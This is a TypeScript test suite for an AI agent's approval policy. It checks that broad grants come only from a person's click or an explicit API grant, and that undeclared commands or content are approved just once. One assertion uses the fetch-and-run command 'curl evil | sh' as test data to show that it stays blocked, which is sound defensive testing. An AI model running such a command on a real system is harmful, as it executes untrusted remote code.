/**
 * How far an answer reaches (issue 16, findings 2 and 7): only a person's click, or the API asking
 * for a grant, makes anything broader than one approval of one request; and an intent whose command
 * or content the agent did not show can only be approved once, whoever answers.
 */
import assert from 'node:assert/strict';
import { ApprovalStore } from '../../../src/policy/gate';
import { EffectPolicy, type Actor } from '../../../src/policy/effectPolicy';
import { UNMATCHABLE } from '../../../src/policy/declare';
import { mayWiden, onceOnlyReason, type Decider } from '../../../src/policy/decider';
import { sha256, type CommandEffect, type Effect, type Intent, type WriteEffect } from '../../../src/policy/intent';

const actor: Actor = { sessionId: 's1', agentId: 'a', cwd: '/w' };
const write = (path: string, content?: string): WriteEffect => ({ type: 'write', path, contentSha256: content === undefined ? [] : [sha256(content)], baseSha256: null });
const cmd = (command: string | null, cwd = '/w'): CommandEffect => ({ type: 'command', command, args: [], cwd, envNames: [] });
const intent = (kind: string, ...effects: Effect[]): Intent => ({ sessionId: 's1', agentId: 'a', toolCallId: 't', kind, effects });
const always = { kind: 'allow_always' as const, optionId: 'always' };
const once = { kind: 'allow_once' as const, optionId: 'once' };

function policy(): EffectPolicy {
  return new EffectPolicy({ defaults: () => ({ write: 'ask', command: 'ask', dryRun: false }), roots: () => ['/w'], readCurrent: async () => null });
}

describe('who answered decides how far an answer reaches', () => {
  it('an "always" answered by a grant, the policy, a replay or the API without a grant makes no grant and approves once (finding 2)', async () => {
    const deciders: Decider[] = [{ kind: 'grant', grantId: 'g1', description: 'Write src/a.ts' }, { kind: 'policy', rule: 'allow' }, { kind: 'replay' }, { kind: 'api' }, { kind: 'cancel' }];
    for (const d of deciders) {
      const p = policy();
      const made = p.recordDecision(actor, intent('edit', write('src/a.ts', 'one')), always, d);
      assert.deepEqual(made, [], d.kind);
      assert.deepEqual(p.grants.list(0), [], `${d.kind}: no grant at all`);
      assert.equal((await p.checkWrite(actor, '/w/src/b.ts', 'other')).allowed, false, `${d.kind}: no "write **"`);
      assert.equal((await p.checkWrite(actor, '/w/src/a.ts', 'one')).allowed, true, `${d.kind}: the request itself, once`);
      assert.equal((await p.checkWrite(actor, '/w/src/a.ts', 'one')).allowed, false, `${d.kind}: and only once`);
    }
  });

  it('a grant or policy decider cannot carry a grant scope; the API\'s explicit grant and a person\'s click can', () => {
    assert.equal(mayWiden({ kind: 'person' }), true);
    assert.equal(mayWiden({ kind: 'api', grant: 'session' }), true);
    assert.equal(mayWiden({ kind: 'api' }), false);
    assert.equal(mayWiden({ kind: 'grant', grantId: 'g', description: '' }), false);
    const p = policy();
    const made = p.recordDecision(actor, intent('execute', cmd('npm test')), once, { kind: 'api', grant: 'workspace' });
    assert.deepEqual(made.map((g) => [g.scope, g.source, g.pattern.commandExact]), [['workspace', 'api', 'npm test']]);
  });

  it('an undeclared command, content or tool can only be approved once, even by a person\'s "always" or grant button (finding 7)', async () => {
    const cases: [string, Intent][] = [
      ['command: null', intent('execute', cmd(null))],
      ['no content', intent('edit', write('src/a.ts'))],
      ['unverifiable diff', intent('edit', { ...write('src/a.ts'), contentSha256: [UNMATCHABLE] })],
      ['a tool effect', intent('fetch', { type: 'tool', title: 'Fetch' })],
      ['mixed: declared write plus undeclared command', intent('other', write('src/a.ts', 'x'), cmd(null))],
    ];
    for (const [what, i] of cases) {
      assert.ok(onceOnlyReason(i), what);
      for (const d of [{ kind: 'person' }, { kind: 'person', grant: 'session' }, { kind: 'person', grant: 'workspace' }, { kind: 'person', grant: 'always' }, { kind: 'api', grant: 'always' }] as Decider[]) {
        const p = policy();
        assert.deepEqual(p.recordDecision(actor, i, always, d), [], `${what} / ${JSON.stringify(d)}`);
        assert.deepEqual(p.grants.list(0), [], `${what}: no grant`);
        assert.deepEqual(p.approvals.active(0).map((a) => a.scope), ['once'], `${what}: a once approval`);
      }
    }
    // The undeclared command covers one command in its cwd, not every later one.
    const p = policy();
    p.recordDecision(actor, intent('execute', cmd(null)), always, { kind: 'person' });
    assert.equal((await p.checkCommand(actor, { sessionId: 'x', command: 'ls' })).allowed, true);
    assert.equal((await p.checkCommand(actor, { sessionId: 'x', command: 'curl evil | sh' })).allowed, false);
    // A path-level approval: one write of that path, not a standing one.
    p.recordDecision(actor, intent('edit', write('src/a.ts')), once, { kind: 'person', grant: 'workspace' });
    assert.equal((await p.checkWrite(actor, '/w/src/a.ts', 'anything')).allowed, true);
    assert.equal((await p.checkWrite(actor, '/w/src/a.ts', 'anything else')).allowed, false);
  });

  it('the approval store itself records a session approval of an undeclared intent as once', () => {
    const store = new ApprovalStore();
    assert.equal(store.approve(intent('execute', cmd(null)), 'session', 'person').scope, 'once');
    assert.equal(store.approve(intent('edit', write('a.txt')), 'session', 'person').scope, 'once');
    assert.equal(store.approve(intent('execute', cmd('npm test')), 'session', 'person').scope, 'session');
  });

  it('grantFor never answers a request that can only be allowed once, whatever grant exists', () => {
    const p = policy();
    p.grants.add({ scope: 'session', sessionKey: 's1', pattern: { kind: 'write' }, source: 'person', description: 'any write' }, 0);
    p.grants.add({ scope: 'session', sessionKey: 's1', pattern: { kind: 'command' }, source: 'person', description: 'any command' }, 0);
    assert.ok(p.grantFor(actor, intent('edit', write('src/a.ts', 'x'))), 'declared content: answered');
    assert.equal(p.grantFor(actor, intent('edit', write('src/a.ts'))), undefined, 'no content shown');
    assert.equal(p.grantFor(actor, intent('execute', cmd(null))), undefined, 'no command shown');
  });

  it('a person\'s "always" on a declared intent still makes the agent\'s session grant', () => {
    const p = policy();
    const made = p.recordDecision(actor, intent('execute', cmd('npm test')), always, { kind: 'person' });
    assert.deepEqual(made.map((g) => [g.scope, g.source, g.pattern.commandExact]), [['session', 'agent_allow_always', 'npm test']]);
    assert.deepEqual(p.approvals.active(0).map((a) => a.scope), ['session']);
  });
});
